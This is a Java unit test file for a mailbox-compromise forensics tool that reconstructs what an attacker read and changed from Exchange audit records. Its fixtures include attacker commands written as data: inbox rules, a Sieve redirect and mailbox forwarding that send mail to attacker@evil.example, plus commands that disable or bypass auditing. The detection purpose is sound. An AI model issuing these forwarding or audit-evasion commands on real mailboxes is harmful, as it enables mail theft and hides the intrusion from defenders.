package dev.mailtrail.investigate.scope;

import static dev.mailtrail.investigate.scope.Records.ALICE;
import static dev.mailtrail.investigate.scope.Records.at;
import static dev.mailtrail.investigate.scope.Records.bind;
import static dev.mailtrail.investigate.scope.Records.cmdlet;
import static dev.mailtrail.investigate.scope.Records.send;
import static dev.mailtrail.investigate.scope.Records.sync;
import static dev.mailtrail.investigate.scope.Records.throttled;
import static org.assertj.core.api.Assertions.assertThat;

import dev.mailtrail.core.event.ItemRef;
import dev.mailtrail.core.event.NameValue;
import dev.mailtrail.core.record.AuditRecord;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class ScopeAnalysisTest {
    private static final String OWNER_IP = "198.51.100.20";
    private static final String ATTACKER_IP = "203.0.113.5";
    private static final AttackerHints BY_IP = new AttackerHints(Set.of(ATTACKER_IP), Set.of(), Set.of());

    private static Scope scope(List<AuditRecord> records, AttackerHints hints) {
        return new ScopeAnalysis().analyse(records, new ScopeQuery(ALICE, null, null, hints));
    }

    @Test
    void readsAreTheAttackersBindsOnlyWithFolderSizeSessionAndTheSubjectAnyRecordKnows() {
        List<AuditRecord> records = List.of(
                bind("08:00:00", "s-owner", OWNER_IP, "\\Inbox", "<a@x>"),
                send("08:30:00", "s-owner", OWNER_IP, "Wire transfer confirmation", "<b@x>"),
                bind("09:00:00", "s-evil", ATTACKER_IP + ":51234", "\\Inbox\\Finance", "<b@x>", "<c@x>"),
                bind("09:03:00", "s-evil", ATTACKER_IP + ":51300", "\\Inbox\\Finance", "<b@x>"));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.messagesRead()).containsExactly("<b@x>", "<c@x>");
        assertThat(scope.reads()).hasSize(3);
        MessageRead first = scope.reads().getFirst();
        assertThat(first.folder()).isEqualTo("\\Inbox\\Finance");
        assertThat(first.sizeInBytes()).isEqualTo(1_000L);
        assertThat(first.access().ip()).isEqualTo(ATTACKER_IP);
        assertThat(first.access().sessionId()).isEqualTo("s-evil");
        assertThat(first.message().subject()).isEqualTo("Wire transfer confirmation");
        assertThat(first.message().sender()).isEqualTo(ALICE);
        assertThat(first.message().date()).isEqualTo(at("08:30:00"));
        assertThat(scope.sessions()).singleElement().satisfies(session -> {
            assertThat(session.sessionKey()).isEqualTo("s-evil");
            assertThat(session.reads()).hasSize(3);
        });
        assertThat(scope.statement()).contains("The attacker read 2 messages in \\Inbox\\Finance.");
    }

    @Test
    void aSessionOrAnAccountNamesTheAttackerAsWellAsAnIp() {
        List<AuditRecord> records = List.of(
                bind("09:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<a@x>"),
                bind("09:10:00", "s-other", "192.0.2.9", "\\Inbox", "<b@x>"));

        assertThat(scope(records, new AttackerHints(Set.of(), Set.of("s-other"), Set.of()))
                        .messagesRead())
                .containsExactly("<b@x>");
        assertThat(scope(records, new AttackerHints(Set.of(), Set.of(), Set.of("ALICE@contoso.com")))
                        .messagesRead())
                .containsExactly("<a@x>", "<b@x>");
    }

    @Test
    void theWindowLimitsWhatIsAttributed() {
        List<AuditRecord> records = List.of(
                bind("09:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<a@x>"),
                bind("11:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<b@x>"));

        Scope scope =
                new ScopeAnalysis().analyse(records, new ScopeQuery(ALICE, at("10:00:00"), at("12:00:00"), BY_IP));

        assertThat(scope.messagesRead()).containsExactly("<b@x>");
        assertThat(scope.statement()).contains("from 2026-03-02 10:00 UTC to 2026-03-02 12:00 UTC");
    }

    @Test
    void aSyncTakesTheFolderWholeAndCountsMailTrailsSyncedItems() {
        List<AuditRecord> records = List.of(
                sync(
                        "09:00:00",
                        "s-evil",
                        ATTACKER_IP,
                        "\\Sent Items",
                        List.of(new ItemRef("<s1@x>", null, 10L, "Payroll"), new ItemRef("<s2@x>", null, 10L, null))),
                sync("09:00:05", "s-evil", ATTACKER_IP, "\\Archive", null));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.foldersSynced()).containsExactly("\\Sent Items", "\\Archive");
        assertThat(scope.syncs().getFirst().syncedItems()).isEqualTo(2);
        assertThat(scope.syncs().get(1).syncedItems()).isNull();
        assertThat(scope.statement())
                .contains(
                        "but synced \\Sent Items (2 items) and \\Archive whole: every item in them must be assumed read");
        assertThat(scope.caveats()).anyMatch(caveat -> caveat.startsWith("Sync:"));
    }

    @Test
    void aThrottledRecordBlindsTheNext24HoursOfBinds() {
        List<AuditRecord> records = List.of(
                bind("08:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<a@x>"),
                throttled("09:00:00", "s-evil", ATTACKER_IP));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.blindWindows(BlindWindow.Reason.THROTTLED))
                .singleElement()
                .satisfies(window -> {
                    assertThat(window.from()).isEqualTo(at("09:00:00"));
                    assertThat(window.to()).isEqualTo(at("09:00:00").plusSeconds(24 * 3600));
                });
        assertThat(scope.statement())
                .contains("Auditing was blind from 2026-03-02 09:00 UTC to 2026-03-03 09:00 UTC (throttled");
    }

    @Test
    void throttledAgainWhileThrottledIsOneWindowUntilTheLastEnds() {
        List<AuditRecord> records = List.of(
                throttled("09:00:00", "s-evil", ATTACKER_IP),
                throttled("15:00:00", "s-evil", ATTACKER_IP),
                throttled("16:00:00", "s-evil", ATTACKER_IP));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.blindWindows()).singleElement().satisfies(window -> {
            assertThat(window.from()).isEqualTo(at("09:00:00"));
            assertThat(window.to()).isEqualTo(at("16:00:00").plusSeconds(24 * 3600));
            assertThat(window.detail()).endsWith(", and 2 more records before it ended");
        });
    }

    @Test
    void manyRuleChangesAreStatedOnceEachWithACount() {
        List<AuditRecord> records = new java.util.ArrayList<>();
        for (int i = 0; i < 10; i++) {
            records.add(cmdlet(
                    "09:0" + i + ":00",
                    "New-InboxRule",
                    ALICE,
                    ATTACKER_IP,
                    "Identity",
                    ALICE,
                    "Name",
                    "r" + (i % 4),
                    "DeleteMessage",
                    "True"));
        }

        Scope scope = scope(records, BY_IP);

        assertThat(scope.statement())
                .contains("changed inbox rules 10 times (New-InboxRule \"r0\": deletes the message;"
                        + " New-InboxRule \"r1\": deletes the message; New-InboxRule \"r2\": deletes the message;"
                        + " and 1 more)");
    }

    @Test
    void auditingTurnedOffForTheOrganisationIsBlindUntilTurnedOnAgain() {
        List<AuditRecord> records = List.of(
                bind("08:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<a@x>"),
                cmdlet("08:10:00", "Set-OrganizationConfig", "admin@contoso.com", ATTACKER_IP, "AuditDisabled", "True"),
                cmdlet("12:00:00", "Set-OrganizationConfig", "admin@contoso.com", OWNER_IP, "AuditDisabled", "False"),
                cmdlet("13:00:00", "Set-OrganizationConfig", "admin@contoso.com", OWNER_IP, "AuditDisabled", "$true"));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.blindWindows(BlindWindow.Reason.AUDIT_DISABLED))
                .extracting(BlindWindow::from, BlindWindow::to)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(at("08:10:00"), at("12:00:00")),
                        org.assertj.core.groups.Tuple.tuple(at("13:00:00"), null));
        assertThat(scope.actions(AttackerAction.Kind.AUDIT_CHANGE))
                .singleElement()
                .satisfies(
                        action -> assertThat(action.summary()).isEqualTo("Set-OrganizationConfig -AuditDisabled True"));
        assertThat(scope.statement()).contains("to the end of the records (auditing turned off for the organisation)");
    }

    @Test
    void auditBypassBlindsTheMailboxWhenItIsForItsOwnerOrTheAttackerButNotForAnotherAccount() {
        List<AuditRecord> records = List.of(
                bind("08:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<a@x>"),
                cmdlet(
                        "09:00:00",
                        "Set-MailboxAuditBypassAssociation",
                        "admin@contoso.com",
                        OWNER_IP,
                        "Identity",
                        "backup@contoso.com",
                        "AuditBypassEnabled",
                        "True"),
                cmdlet(
                        "10:00:00",
                        "Set-MailboxAuditBypassAssociation",
                        "admin@contoso.com",
                        OWNER_IP,
                        "Identity",
                        ALICE,
                        "AuditBypassEnabled",
                        "True"),
                cmdlet(
                        "11:00:00",
                        "Set-MailboxAuditBypassAssociation",
                        "admin@contoso.com",
                        OWNER_IP,
                        "Identity",
                        ALICE,
                        "AuditBypassEnabled",
                        "False"));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.blindWindows(BlindWindow.Reason.AUDIT_BYPASS))
                .singleElement()
                .satisfies(window -> {
                    assertThat(window.from()).isEqualTo(at("10:00:00"));
                    assertThat(window.to()).isEqualTo(at("11:00:00"));
                    assertThat(window.detail()).contains("-Identity alice@contoso.com");
                });
    }

    @Test
    void mailItemsAccessedRemovedFromAListIsBlindUntilAddedBack() {
        List<AuditRecord> records = List.of(
                cmdlet(
                        "08:00:00",
                        "Set-Mailbox",
                        "eve@contoso.com",
                        ATTACKER_IP,
                        "Identity",
                        ALICE,
                        "AuditOwner",
                        "@{Remove=\"MailItemsAccessed\"}"),
                cmdlet(
                        "08:30:00",
                        "Set-Mailbox",
                        "admin@contoso.com",
                        OWNER_IP,
                        "Identity",
                        ALICE,
                        "AuditDelegate",
                        "HardDelete,SoftDelete"),
                cmdlet(
                        "09:00:00",
                        "Set-Mailbox",
                        "admin@contoso.com",
                        OWNER_IP,
                        "Identity",
                        ALICE,
                        "AuditOwner",
                        "@{Add=\"MailItemsAccessed\"}"),
                cmdlet(
                        "09:30:00",
                        "Set-Mailbox",
                        "admin@contoso.com",
                        OWNER_IP,
                        "Identity",
                        "bob@contoso.com",
                        "AuditOwner",
                        "HardDelete"));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.blindWindows(BlindWindow.Reason.MAIL_ITEMS_ACCESSED_REMOVED))
                .extracting(BlindWindow::from, BlindWindow::to)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(at("08:00:00"), at("09:00:00")),
                        org.assertj.core.groups.Tuple.tuple(at("08:30:00"), null));
        assertThat(scope.actions(AttackerAction.Kind.AUDIT_CHANGE)).hasSize(1);
    }

    @Test
    void aForwardingInboxRuleIsShownWithItsActionsAndConditions() {
        List<AuditRecord> records = List.of(
                cmdlet(
                        "09:00:00",
                        "New-InboxRule",
                        ALICE,
                        ATTACKER_IP + ":4431",
                        "Identity",
                        ALICE,
                        "Name",
                        ".",
                        "ForwardTo",
                        "attacker@evil.example",
                        "SubjectContainsWords",
                        "invoice;payment",
                        "StopProcessingRules",
                        "True"),
                Records.mailbox("09:05:00", "UpdateInboxRules", 2, "s-evil", ATTACKER_IP)
                        .operationProperties(List.of(
                                new NameValue("RuleName", "hide"),
                                new NameValue("RuleOperation", "AddMailboxRule"),
                                new NameValue(
                                        "RuleActions",
                                        "[{\"ActionType\":\"MoveToFolderAction\",\"FolderPath\":\"\\\\RSS Feeds\"},"
                                                + "{\"ActionType\":\"MarkAsReadAction\"}]"),
                                new NameValue("RuleCondition", "From contains ceo@contoso.com")))
                        .build());

        Scope scope = scope(records, BY_IP);

        assertThat(scope.actions(AttackerAction.Kind.INBOX_RULE))
                .extracting(AttackerAction::summary)
                .containsExactly(
                        "New-InboxRule \".\": forwards to attacker@evil.example; stops processing other rules;"
                                + " when the subject contains \"invoice;payment\"",
                        "UpdateInboxRules \"hide\": moves to folder \\RSS Feeds; marks it read;"
                                + " when From contains ceo@contoso.com (AddMailboxRule)");
        assertThat(scope.statement())
                .contains("changed inbox rules 2 times (New-InboxRule \".\": forwards to attacker@evil.example");
    }

    @Test
    void aRuleMadeOverManageSieveReadsAsExchangesWithoutItsSieveText() {
        List<AuditRecord> records = List.of(
                cmdlet(
                        "09:00:00",
                        "New-InboxRule",
                        ALICE,
                        ATTACKER_IP,
                        "Mailbox",
                        ALICE,
                        "Name",
                        "Payments",
                        "SubjectContainsWords",
                        "invoice",
                        "ForwardTo",
                        "payments@evil.example",
                        "ExternalRecipients",
                        "payments@evil.example",
                        "SieveRule",
                        "if header :contains \"subject\" \"invoice\" { redirect :copy \"payments@evil.example\"; }",
                        "SieveScript",
                        "roundcube"),
                cmdlet("09:10:00", "Remove-InboxRule", ALICE, ATTACKER_IP, "Mailbox", ALICE, "Identity", "Old"));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.actions(AttackerAction.Kind.INBOX_RULE))
                .extracting(AttackerAction::summary)
                .containsExactly(
                        "New-InboxRule \"Payments\": forwards to payments@evil.example; sends outside the organisation"
                                + " to payments@evil.example; when the subject contains \"invoice\"",
                        "Remove-InboxRule \"Old\": no action recorded");
    }

    @Test
    void sendsDeletesMovesAndPermissionsAreTheAttackersOtherActions() {
        List<AuditRecord> records = List.of(
                send("09:00:00", "s-evil", ATTACKER_IP, "Updated bank details", "<f@x>"),
                Records.mailbox("09:01:00", "MoveToDeletedItems", 3, "s-evil", ATTACKER_IP)
                        .folder(new dev.mailtrail.core.event.FolderRef("S", "\\Sent Items"))
                        .destFolder(new dev.mailtrail.core.event.FolderRef("D", "\\Deleted Items"))
                        .affectedItems(List.of(
                                new dev.mailtrail.core.record.RecordItem(
                                        "I1", "Updated bank details", "<f@x>", 1L, null),
                                new dev.mailtrail.core.record.RecordItem("I2", null, "<g@x>", 1L, null)))
                        .build(),
                Records.mailbox("09:02:00", "AddFolderPermissions", 2, "s-evil", ATTACKER_IP)
                        .build(),
                cmdlet(
                        "09:03:00",
                        "Set-Mailbox",
                        ALICE,
                        ATTACKER_IP,
                        "Identity",
                        ALICE,
                        "ForwardingSmtpAddress",
                        "smtp:attacker@evil.example"));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.actions())
                .extracting(AttackerAction::kind)
                .containsExactly(
                        AttackerAction.Kind.SEND,
                        AttackerAction.Kind.DELETE,
                        AttackerAction.Kind.PERMISSION,
                        AttackerAction.Kind.MAILBOX_FORWARDING);
        assertThat(scope.actions().get(1).summary())
                .isEqualTo("MoveToDeletedItems 2 items from \\Sent Items to \\Deleted Items: \"Updated bank details\"");
        assertThat(scope.statement())
                .contains("sent 1 message")
                .contains("set mailbox forwarding (Set-Mailbox -Identity alice@contoso.com"
                        + " -ForwardingSmtpAddress smtp:attacker@evil.example)")
                .contains("changed permissions 1 time")
                .contains("deleted 2 items");
        assertThat(scope.timeline())
                .extracting(TimelineEntry::what)
                .containsExactly("sent", "deleted", "permission", "mailbox forwarding");
    }

    @Test
    void aLongStretchWithoutRecordsBetweenTheAttackersActivityIsBlind() {
        List<AuditRecord> records = List.of(
                bind("01:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<a@x>"),
                bind("02:00:00", "s-owner", OWNER_IP, "\\Inbox", "<b@x>"),
                bind("10:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<c@x>"),
                bind("23:00:00", "s-owner", OWNER_IP, "\\Inbox", "<d@x>"));

        Scope scope = scope(records, BY_IP);

        assertThat(scope.blindWindows(BlindWindow.Reason.NO_RECORDS))
                .singleElement()
                .satisfies(window -> {
                    assertThat(window.from()).isEqualTo(at("02:00:00"));
                    assertThat(window.to()).isEqualTo(at("10:00:00"));
                    assertThat(window.detail()).contains("8 h");
                });
    }

    @Test
    void withoutHintsTheMailboxsWholeActivityIsListedAndANewIpAndClientAreProposed() {
        List<AuditRecord> records = List.of(
                bind("08:00:00", "s-owner", OWNER_IP, "\\Inbox", "<a@x>"),
                bind("08:10:00", "s-owner", OWNER_IP, "\\Inbox", "<b@x>"),
                bind("09:00:00", "s-evil", ATTACKER_IP, "\\Inbox", "<c@x>"),
                bind("09:05:00", "s-evil", "192.0.2.77", "\\Inbox", "<d@x>"));

        Scope scope = scope(records, AttackerHints.none());

        assertThat(scope.messagesRead()).containsExactly("<a@x>", "<b@x>", "<c@x>", "<d@x>");
        assertThat(scope.sessions()).extracting(AttackerSession::sessionKey).containsExactly("s-owner", "s-evil");
        assertThat(scope.suspiciousSessions()).singleElement().satisfies(session -> {
            assertThat(session.sessionKey()).isEqualTo("s-evil");
            assertThat(session.ips()).containsExactly(ATTACKER_IP, "192.0.2.77");
            assertThat(session.reasons())
                    .containsExactly(
                            "new IP 203.0.113.5 for the mailbox",
                            "new client \"Client=REST;Client=RESTSystem;;\" for the mailbox",
                            "new IP 192.0.2.77 for the mailbox",
                            "one session from 2 IPs");
        });
        assertThat(scope.statement())
                .contains("No attacker was named, so the mailbox's whole activity is listed, in 2 sessions")
                .contains("1 session stands out")
                .contains("The mailbox's sessions read 4 messages in \\Inbox.");
    }

    @Test
    void activityAtHoursTheMailboxIsQuietIsProposed() {
        List<AuditRecord> records = new java.util.ArrayList<>();
        for (int minute = 0; minute < 30; minute++) {
            records.add(bind("10:%02d:00".formatted(minute), "s-owner", OWNER_IP, "\\Inbox", "<m" + minute + "@x>"));
        }
        records.add(bind("03:00:00", "s-night", OWNER_IP, "\\Inbox", "<n@x>"));

        Scope scope = scope(records, AttackerHints.none());

        assertThat(scope.suspiciousSessions()).singleElement().satisfies(session -> assertThat(session.reasons())
                .containsExactly("active at 03:00 UTC, when the mailbox is otherwise quiet"));
    }
}
